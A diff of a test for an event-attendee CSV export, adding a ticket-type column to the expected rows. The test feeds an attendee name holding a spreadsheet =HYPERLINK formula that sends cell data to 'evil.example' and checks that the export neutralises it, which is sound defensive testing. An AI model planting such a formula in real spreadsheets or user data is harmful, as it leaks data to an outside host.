@@ -75,10 +75,12 @@ describe('the attendees of an event', () => {
     // The hostile name is a quoted text cell that starts with a quote mark: no formula runs.
     expect(rows[1]).toMatch(
       new RegExp(
-        `^\\d+,"'=HYPERLINK\\(""https://evil\\.example/\\?leak=""&A1,""Click""\\) Doe, ""Jr""",${mallory.email},1,,\\S+Z,completed$`,
+        `^\\d+,"'=HYPERLINK\\(""https://evil\\.example/\\?leak=""&A1,""Click""\\) Doe, ""Jr""",${mallory.email},1,General admission,\\S+Z,completed$`,
       ),
     );
-    expect(rows[2]).toMatch(new RegExp(`^\\d+,Fabio Fan,${fabio.email},2,,\\S+Z,completed$`));
+    expect(rows[2]).toMatch(
+      new RegExp(`^\\d+,Fabio Fan,${fabio.email},2,General admission,\\S+Z,completed$`),
+    );
     expect(rows.slice(3)).toEqual(['']);
 
     // Message attendees: written, previewed as the fans get it, confirmed, sent.
